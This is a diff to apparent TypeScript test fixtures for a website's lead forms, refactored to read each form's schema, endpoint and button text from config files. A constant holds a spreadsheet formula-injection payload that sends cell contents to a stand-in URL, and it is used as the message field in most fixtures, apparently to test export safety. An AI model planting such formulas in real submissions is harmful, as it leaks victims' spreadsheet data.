@@ -1,5 +1,5 @@
-import type { Payload } from '#shared/forms/types.ts';
-import { isFile, sampleOf } from './sample-of.ts';
+import type { CallSpec, FormSchema, Payload } from '#shared/forms/types.ts';
+import { isFile, readForm, sampleOf } from './sample-of.ts';
 
 /** A lead form as a visitor meets it: where it stands, what is typed, chosen, ticked and attached, by field. */
 export interface LeadForm {
@@ -24,16 +24,40 @@ export interface LeadForm {
   readonly rest?: Payload;
 }
 
+/** Where a form stands, and what a visitor would answer who is asked for it. */
+type Row = Pick<LeadForm, 'form' | 'page' | 'opener' | 'texts' | 'choices' | 'files' | 'ticked'>;
+
 const person = { name: 'Asha Rao', email: 'asha.rao@example.com' };
 
-/** A row with what its form requires and the row does not name; documents among that stand beside the row's. */
-function whole(lead: LeadForm): LeadForm {
-  const named = { ...lead.texts, ...lead.choices, ...lead.files, ...lead.ticked };
-  const missing = Object.entries(sampleOf(lead.form)).filter(([name]) => !(name in named));
+/** The words of the button that sends a shipped form. */
+export function buttonOf(form: string): string {
+  const { 'ui:submitButtonOptions': button } = readForm(form, 'ui.json') as { 'ui:submitButtonOptions': { submitText: string } };
+  return button.submitText;
+}
+
+/**
+ * A row as its form is by now: without fields and options that it has no more, and with what it requires and the row does
+ * not name; documents among that stand beside the row's.
+ */
+function whole(row: Row): LeadForm {
+  const { properties } = readForm(row.form, 'schema.json') as FormSchema;
+  const { call } = readForm(row.form, 'submit.json') as { readonly call: CallSpec };
+  const isAsked = ([name, value]: readonly [string, unknown]) =>
+    properties[name]?.enum?.some((option) => option === value) ?? name in properties;
+  const asked = <Value>(values: Readonly<Record<string, Value>> = {}): Record<string, Value> =>
+    Object.fromEntries(Object.entries(values).filter(isAsked));
+  const answers = { texts: asked(row.texts), choices: asked(row.choices), ticked: asked(row.ticked), files: asked(row.files) };
+  const named = { ...answers.texts, ...answers.choices, ...answers.ticked, ...answers.files };
+  const missing = Object.entries(sampleOf(row.form)).filter(([name]) => !(name in named));
   const documents = missing.filter(([, value]) => isFile(value)).map(([name]) => [name, `${name}.pdf`] as const);
   return {
-    ...lead,
-    ...((lead.files || documents.length > 0) && { files: { ...lead.files, ...Object.fromEntries(documents) } }),
+    ...row,
+    ...answers,
+    call: call.path,
+    button: buttonOf(row.form),
+    hasCaptcha: 'captcha' in properties,
+    ticks: Object.entries(answers.ticked).map(([name, value]) => (value === true ? (properties[name]?.title ?? name) : String(value))),
+    files: { ...answers.files, ...Object.fromEntries(documents) },
     rest: Object.fromEntries(missing.filter(([, value]) => !isFile(value))),
   };
 }
@@ -44,18 +68,12 @@ const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';
 export const contact = whole({
   form: 'contact',
   page: '/contact-us',
-  call: '/post-contact-us',
-  button: 'Send message',
-  hasCaptcha: true,
   texts: { ...person, phone: '9876543210', subject: 'A booking app', message: FORMULA },
 });
 
 export const quote = whole({
   form: 'quote',
   page: '/get-a-quote',
-  call: '/post-quote',
-  button: 'Get a quote',
-  hasCaptcha: true,
   texts: { ...person, phone: '9876543210', message: FORMULA },
   choices: { service: 'QA Services', project_budget: '$10K - $25K' },
   files: { file: 'brief.pdf' },
@@ -64,9 +82,6 @@ export const quote = whole({
 export const career = whole({
   form: 'career',
   page: '/career',
-  call: '/post-career',
-  button: 'Send application',
-  hasCaptcha: true,
   texts: { ...person, phone: '9876543210', post: 'Flutter Developer', experience: '3 years', message: FORMULA },
   files: { file: 'cv.pdf' },
 });
@@ -74,8 +89,6 @@ export const career = whole({
 export const partner = whole({
   form: 'partner',
   page: '/become-a-partner',
-  call: '/post-associate-partner',
-  button: 'Send application',
   opener: 'Apply Now',
   texts: { ...person, mobile: '919876543210', message: FORMULA },
 });
@@ -83,8 +96,6 @@ export const partner = whole({
 export const associatePartner = whole({
   form: 'associate-partner',
   page: '/become-partner-form',
-  call: '/post-associate-partner-application',
-  button: 'Send application',
   texts: {
     ...person,
     mobile: '919876543210',
@@ -99,7 +110,6 @@ export const associatePartner = whole({
     motivation: FORMULA,
   },
   choices: { referral_source: 'Social Media' },
-  ticks: ['Female', 'Part-time', 'Phone', 'I agree that Alobha stores these details and contacts me about the partnership'],
   files: { resume: 'resume.pdf', id_document: 'passport.pdf' },
   ticked: { gender: 'Female', availability: 'Part-time', contact_method: 'Phone', consent: true },
 });
@@ -107,8 +117,6 @@ export const associatePartner = whole({
 export const newsletter = whole({
   form: 'newsletter',
   page: '/',
-  call: '/post-subscribed-email',
-  button: 'Subscribe',
   texts: { email: person.email },
 });
 
